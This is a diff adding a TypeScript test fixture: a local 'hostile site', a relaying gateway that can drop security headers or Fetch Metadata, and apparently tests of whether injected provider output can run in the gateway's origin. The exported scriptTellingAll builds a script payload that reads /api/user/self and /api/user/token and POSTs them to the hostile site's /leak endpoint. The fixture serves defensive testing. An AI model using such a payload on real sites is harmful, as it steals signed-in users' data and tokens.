@@ -1,0 +1,108 @@
+import { once } from 'node:events'
+import {
+  createServer,
+  type IncomingMessage,
+  request as httpRequest,
+  type RequestListener,
+  type ServerResponse,
+} from 'node:http'
+import { text } from 'node:stream/consumers'
+import { portOf } from '../server/testing/port-of.ts'
+
+type Site = { url: string; close: () => Promise<void> }
+
+/** At `localhost`, which is another site than 127.0.0.1, where the gateway of these tests is. */
+async function serve(host: 'localhost' | '127.0.0.1', listener: RequestListener): Promise<Site> {
+  const server = createServer(listener).listen(0, '127.0.0.1')
+  await once(server, 'listening')
+  return {
+    url: `http://${host}:${portOf(server)}`,
+    close: async () => {
+      server.close()
+      server.closeAllConnections()
+      await once(server, 'close')
+    },
+  }
+}
+
+export type HostileSite = Site & {
+  /** Shows this at the address that it gives back. */
+  show: (html: string) => string
+  /** What was told to it, in order. */
+  leaks: string[]
+}
+
+/** Somebody's pages, and a place for what they find out. */
+export async function openHostileSite(): Promise<HostileSite> {
+  const pages: string[] = []
+  const leaks: string[] = []
+  const answer = async (request: IncomingMessage, response: ServerResponse) => {
+    const { pathname } = new URL(request.url ?? '', 'http://localhost')
+    if (pathname === '/leak') leaks.push(await text(request))
+    const html = pages[Number(pathname.slice(1))]
+    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html)
+  }
+  const site = await serve('localhost', (request, response) => void answer(request, response))
+  return {
+    ...site,
+    leaks,
+    show: (html) => `${site.url}/${pages.push(`<!doctype html><title>page</title>${html}`) - 1}`,
+  }
+}
+
+/** What a provider puts into its answer: it tells the site what the signed-in user may read. */
+export const scriptTellingAll = ({ url }: Site) =>
+  '<script>document.title = `ran`; (async () => { ' +
+  `const tell = (text) => fetch('${url}/leak', { method: 'POST', mode: 'no-cors', body: text }); ` +
+  "await tell('ran in ' + window.origin); " +
+  "await tell(await (await fetch('/api/user/self')).text()); " +
+  "await tell(await (await fetch('/api/user/token')).text()) })()</script>"
+
+const GUARDS = [
+  'content-security-policy',
+  'x-content-type-options',
+  'cross-origin-resource-policy',
+  'content-length',
+]
+
+/** What is changed of relay requests and their answers on the way. */
+type Changes = {
+  /** As a browser sends them that knows no Fetch Metadata. */
+  isOldBrowser?: true
+  /** In place of the type of an answer. */
+  type?: string
+  /** The headers that keep an answer from being a document are gone. */
+  isUnguarded?: true
+}
+
+export type Gate = Site & {
+  /** Of the relay's answers. */
+  statuses: ReadonlySet<number>
+}
+
+/** The gateway, at another port. */
+export async function openGate(target: string, changes: Changes = {}): Promise<Gate> {
+  const { isOldBrowser = false, isUnguarded = false, type } = changes
+  const statuses = new Set<number>()
+  const site = await serve('127.0.0.1', (request, response) => {
+    const { method, url = '' } = request
+    const isRelay = /^\/(?:v1|dashboard)\//.test(url)
+    const sent = Object.entries(request.headers).filter(
+      ([name]) => !(isRelay && isOldBrowser && name.startsWith('sec-fetch-')),
+    )
+    const passed = httpRequest(new URL(url, target), { method, headers: Object.fromEntries(sent) })
+    passed.on('response', (answer) => {
+      const { statusCode = 502, headers } = answer
+      if (isRelay) statuses.add(statusCode)
+      const given = Object.entries(headers).filter(
+        ([name]) => !(isRelay && isUnguarded && GUARDS.includes(name)),
+      )
+      const typed = isRelay && type !== undefined ? { 'content-type': type } : {}
+      response.writeHead(statusCode, { ...Object.fromEntries(given), ...typed })
+      answer.pipe(response)
+    })
+    passed.on('error', () => response.destroy())
+    request.pipe(passed)
+  })
+  return { ...site, statuses }
+}
